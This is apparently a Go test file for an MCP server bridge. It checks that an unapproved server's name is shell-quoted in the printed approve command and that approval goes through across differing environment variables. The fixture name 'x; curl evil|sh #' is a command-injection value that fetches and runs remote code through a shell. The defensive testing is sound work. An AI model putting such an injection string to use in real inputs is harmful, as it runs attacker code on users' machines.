package main

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcp-bridge/mcp-bridge/bridge"
	"github.com/mcp-bridge/mcp-bridge/discovery"
)

// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the terminal
// has, and the server's name is quoted in the command to type.
func TestApproveElsewhere(t *testing.T) {
	home, name := t.TempDir(), "x; curl evil|sh #"
	vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir())
	theirs := append(vars, "XDG_RUNTIME_DIR="+t.TempDir(), "TMPDIR="+t.TempDir())
	f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), map[string]entry{"first": {Command: "one"}}, theirs...)
	f.write(t, map[string]entry{"first": {Command: "one"}, name: {Command: "two"}})
	f.says(t, `not_approved="[`+name+`]"`)
	cmd := command(t, nil, "servers", "approve", name, "--yes")
	cmd.Dir, cmd.Env = home, append(cmd.Env, append(vars, "XDG_RUNTIME_DIR=", "TMPDIR=")...)
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "that run and know it now: 1") {
		t.Fatalf("%v: %s", err, out)
	}
	f.hears(t)
}

func TestHowToApprove(t *testing.T) {
	s := discovery.Server{Name: "x; curl evil|sh #"}
	if got, want := bridge.HowToApprove(s, "this directory"), "to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	s.Source.Scope = discovery.Listed
	if got, want := bridge.HowToApprove(s, "this directory"), "to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}
